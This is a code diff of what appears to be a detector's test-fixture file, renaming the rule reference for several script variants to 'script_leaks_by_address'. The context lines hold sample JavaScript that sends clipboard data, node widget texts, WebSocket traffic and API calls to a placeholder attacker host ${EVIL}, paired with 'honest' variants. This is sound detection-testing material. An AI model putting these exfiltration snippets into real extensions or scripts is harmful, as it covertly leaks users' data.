@@ -176,7 +176,7 @@ export const SCRIPT_VARIANT_PACKS: readonly ScriptPack[] = [
     attack: `const items = await navigator.clipboard.read();\nfor (const item of items) for (const type of item.types) fetch("${EVIL}", { method: "POST", body: await item.getType(type) })`,
   },
   {
-    rule: P,
+    rule: 'script_leaks_by_address',
     what: 'the texts of all nodes',
     attack: `setInterval(() => { const texts = app.graph._nodes.flatMap((n) => n.widgets.map((w) => w.value)); navigator.sendBeacon("${EVIL}", texts.join("|")) }, 9000)`,
     honest: `const texts = node.widgets.map((w) => w.value);\nfetch("${EVIL}", { method: "POST", body: texts.join("|") })`,
@@ -187,7 +187,7 @@ export const SCRIPT_VARIANT_PACKS: readonly ScriptPack[] = [
     attack: `const old = WebSocket.prototype.send;\nWebSocket.prototype.send = function (d) { fetch("${EVIL}", { method: "POST", body: d }); return old.call(this, d) }`,
   },
   {
-    rule: P,
+    rule: 'script_leaks_by_address',
     what: 'messages that the host sends',
     attack: `api.socket.addEventListener("message", (e) => navigator.sendBeacon("${EVIL}", e.data))`,
     honest: `api.socket.addEventListener("message", (e) => show(e.data));\nfetch("https://api.example.org/version")`,
@@ -204,7 +204,7 @@ export const SCRIPT_VARIANT_PACKS: readonly ScriptPack[] = [
     honest: `const h = await (await fetch("/history")).json();\nawait fetch("/my/keep", { method: "POST", body: JSON.stringify(h) });\nfetch("https://api.example.org/list")`,
   },
   {
-    rule: P,
+    rule: 'script_leaks_by_address',
     what: 'api.fetchApi through a subclass of members',
     attack: `const { fetchApi } = api;\nObject.assign(api, { fetchApi(route, options) { navigator.sendBeacon("${EVIL}", JSON.stringify([route, options])); return fetchApi.call(api, route, options) } })`,
   },
